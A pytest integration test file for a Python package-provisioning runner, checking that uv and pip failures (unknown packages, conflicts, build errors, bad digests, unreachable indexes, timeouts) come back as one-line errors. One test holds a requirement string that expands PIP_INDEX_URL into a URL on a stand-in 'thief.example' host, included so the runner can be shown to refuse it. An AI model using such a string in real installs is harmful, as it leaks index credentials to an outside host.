"""Requirements that cannot be met are told in one line, the same whichever installer finds out."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import Literal

import pytest

from runner.errors import (
    BuildError,
    IndexUnreachableError,
    InstallTimeoutError,
    ProvisionError,
    RequirementError,
)
from runner.limits import Limits
from runner.provision import Cache, ProvisionOptions, Venv, provision_packages
from tests.integration.local_index import LocalIndex, Package

Family = Literal["uv", "pip"]
pytestmark = [pytest.mark.integration, pytest.mark.parametrize("installer", ["uv", "pip"])]


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Cache:
    """One for all tests here, whose package names differ: an installer's first start takes longest."""
    return Cache(tmp_path_factory.mktemp("requirements"))


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalIndex]:
    with LocalIndex(tmp_path_factory.mktemp("index")) as served:
        yield served


async def attempt(index: LocalIndex, cache: Cache, installer: Family, *requirements: str) -> Venv:
    return await provision_packages(
        requirements,
        cache=cache,
        options=ProvisionOptions(index_url=index.url, installer=installer),
    )


async def failure(index: LocalIndex, cache: Cache, installer: Family, *requirements: str) -> ProvisionError:
    with pytest.raises(ProvisionError) as caught:
        await attempt(index, cache, installer, *requirements)
    assert "\n" not in caught.value.message
    assert not [entry for entry in cache.venvs_dir.iterdir() if not (entry / "manifest.json").exists()]
    return caught.value


async def test_packages_are_installed_with_what_they_need(index: LocalIndex, cache: Cache, installer: Family) -> None:
    index.add("parent", "1.0", ["child>=1"])
    index.add("child", "1.0")
    index.add("child", "2.0")
    venv = await attempt(index, cache, installer, "parent")
    assert venv.packages == {"child": "2.0", "parent": "1.0"}
    assert venv.installer.startswith(installer)


async def test_dependencies_can_be_left_out(index: LocalIndex, cache: Cache, installer: Family) -> None:
    index.add("lonely", "1.0", ["child>=1"])
    venv = await provision_packages(
        ["lonely"],
        follow_dependencies=False,
        cache=cache,
        options=ProvisionOptions(index_url=index.url, installer=installer),
    )
    assert venv.packages == {"lonely": "1.0"}


async def test_no_requirements_give_an_empty_venv(index: LocalIndex, cache: Cache, installer: Family) -> None:
    venv = await attempt(index, cache, installer)
    assert venv.packages == {}
    assert venv.python.exists()


async def test_unknown_package_is_named(index: LocalIndex, cache: Cache, installer: Family) -> None:
    error = await failure(index, cache, installer, "doesnotexist-xyz")
    assert isinstance(error, RequirementError)
    assert "no package named 'doesnotexist-xyz'" in error.message
    assert "127.0.0.1" in error.message


async def test_unknown_package_of_a_dependency_names_who_wants_it(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    index.add("wanting", "1.0", ["nothere"])
    error = await failure(index, cache, installer, "wanting")
    assert isinstance(error, RequirementError)
    assert "no package named 'nothere', which wanting wants" in error.message


async def test_impossible_version_is_named(index: LocalIndex, cache: Cache, installer: Family) -> None:
    index.add("pack", "1.0")
    error = await failure(index, cache, installer, "pack==99")
    assert isinstance(error, RequirementError)
    assert "no version of 'pack'" in error.message
    assert "pack==99" in error.message


async def test_conflict_names_both_sides(index: LocalIndex, cache: Cache, installer: Family) -> None:
    index.add("left", "1.0", ["shared>=2"])
    index.add("right", "1.0", ["shared<2"])
    index.add("shared", "1.0")
    index.add("shared", "2.0")
    error = await failure(index, cache, installer, "left", "right")
    assert isinstance(error, RequirementError)
    assert "contradict each other on 'shared'" in error.message
    for side in ("left", "right", "shared>=2", "shared<2"):
        assert side in error.message


async def test_conflict_with_a_direct_requirement_names_both_sides(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    index.add("wants-two", "1.0", ["common>=2"])
    index.add("common", "1.0")
    index.add("common", "2.0")
    error = await failure(index, cache, installer, "wants-two", "common==1.0")
    assert isinstance(error, RequirementError)
    assert "common==1.0 is asked for" in error.message
    assert "common>=2" in error.message


async def test_wheel_for_another_platform_is_not_called_unknown(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    index.add("elsewhere", "1.0", tag="cp312-cp312-win_amd64")
    error = await failure(index, cache, installer, "elsewhere")
    assert isinstance(error, RequirementError)
    assert "'elsewhere' has no file that fits Python" in error.message


async def test_build_that_misses_a_module_names_package_and_module(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    backend = "def build_wheel(directory, settings=None, metadata=None):\n    import absent_build_tool\n"
    index.add_sdist("source", "1.0", backend)
    error = await failure(index, cache, installer, "source")
    assert isinstance(error, BuildError)
    assert "'source" in error.message
    assert "'absent_build_tool'" in error.message
    assert "ModuleNotFoundError" in error.detail


async def test_build_without_a_compiler_says_so(index: LocalIndex, cache: Cache, installer: Family) -> None:
    backend = (
        "def build_wheel(directory, settings=None, metadata=None):\n"
        "    raise RuntimeError(\"command 'gcc' failed: No such file or directory\")\n"
    )
    index.add_sdist("native", "1.0", backend)
    error = await failure(index, cache, installer, "native")
    assert isinstance(error, BuildError)
    assert "no C compiler" in error.message
    assert "gcc" in error.hint


async def test_file_with_another_content_than_its_digest_is_refused(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    package = Package(name="swapped", version="1.0")
    index.add_file(package, package.wheel_name, package.wheel(), digest="0" * 64)
    error = await failure(index, cache, installer, "swapped")
    assert "'swapped" in error.message
    assert "digest" in error.message


async def test_variable_in_a_requirement_is_refused_before_an_installer_sees_it(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    with pytest.raises(RequirementError, match="line break"):
        await attempt(index, cache, installer, "leak @ https://thief.example/${PIP_INDEX_URL}/leak-1-py3-none-any.whl")


async def test_closed_port_is_an_unreachable_index(cache: Cache, installer: Family) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
    with pytest.raises(IndexUnreachableError, match=rf"127\.0\.0\.1:{port} cannot be reached: .*refused"):
        await provision_packages(
            ["pack"],
            cache=cache,
            options=ProvisionOptions(index_url=f"http://127.0.0.1:{port}/simple", installer=installer),
        )


async def test_index_that_never_answers_ends_by_the_silence_limit(cache: Cache, installer: Family) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        with pytest.raises(InstallTimeoutError, match=rf"no progress for .*'resolve'.*127\.0\.0\.1:{port}"):
            await provision_packages(
                ["pack"],
                cache=cache,
                options=ProvisionOptions(index_url=f"http://127.0.0.1:{port}/simple", installer=installer),
                limits=Limits(install_silence_s=1.0),
            )


async def test_overall_limit_ends_an_install_that_keeps_talking(cache: Cache, installer: Family) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        with pytest.raises(InstallTimeoutError, match="not done after 1 s"):
            await provision_packages(
                ["pack"],
                cache=cache,
                options=ProvisionOptions(index_url=f"http://127.0.0.1:{port}/simple", installer=installer),
                limits=Limits(install_s=1.0),
            )


async def test_failed_build_is_not_taken_for_a_venv(index: LocalIndex, cache: Cache, installer: Family) -> None:
    package = Package(name=f"late-{installer}", version="1.0")
    index.add_file(package, package.wheel_name, b"not a wheel")
    await failure(index, cache, installer, package.name)
    index.add_file(package, package.wheel_name, package.wheel())
    venv = await attempt(index, cache, installer, package.name)
    assert venv.packages == {package.name: "1.0"}


async def test_package_capped_to_older_pythons_is_not_installed_in_silence(
    index: LocalIndex, cache: Cache, installer: Family
) -> None:
    index.add("capped", "1.0", requires_python="<3.9")
    try:
        venv = await attempt(index, cache, installer, "capped")
    except RequirementError as error:
        assert "'capped' has no file that fits Python" in error.message
    else:
        assert any("capped 1.0 says it is for Python <3.9" in warning for warning in venv.warnings)
